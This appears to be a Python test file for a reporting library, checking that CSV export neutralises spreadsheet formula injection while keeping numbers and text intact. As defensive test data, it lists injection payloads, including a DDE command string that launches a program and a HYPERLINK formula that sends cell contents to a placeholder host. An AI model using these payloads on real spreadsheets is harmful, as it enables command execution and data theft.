"""No cell of a CSV file is a formula, numbers are numbers, and every text can be had back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from askew.report.grid import Column, Kind, Row, Table, to_csv
from askew.report.sheet_cells import sheet_cell, sheet_text

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", '"=1', "'=1"),
    *('" =1', "' '=1", "＝1", "＋1", "－1", "＠x", "\ufeff=1", "\u200b=1", "=cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://example.invalid/?"&A1)', "-", "--1", "+-1", "-1+1", "1-\t"[:0] + "@"),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text):
    assert sheet_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-1", "+0.5", "-1e-9", "0", "-.5", "A=B", "a-b", "", "1-2", "−1"])
def test_numbers_and_words_stay(text):
    assert sheet_cell(text) == text


@given(st.text() | st.text(alphabet="=+-@'\" \t\r\n1.e"))
def test_every_text_can_be_had_back(text):
    cell = sheet_cell(text)
    assert sheet_text(cell) == text
    # What a spreadsheet sees first, behind anything that it may pass over.
    if cell == text:
        seen = text.lstrip(" \t\r\n\"'")
        assert not seen.startswith(("=", "@"))
        assert not text.startswith("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_table_of_a_report_holds_a_formula(text):
    table = Table("t", (Column(text, Kind.TEXT), Column("n", Kind.DIGITS)), (Row((text, -0.25)),))
    for row in csv.reader(io.StringIO(to_csv(table))):
        assert not any(cell[:1] in "=+@\t\r" and cell for cell in row)
    assert list(csv.reader(io.StringIO(to_csv(table))))[1][1] == "-0.25"
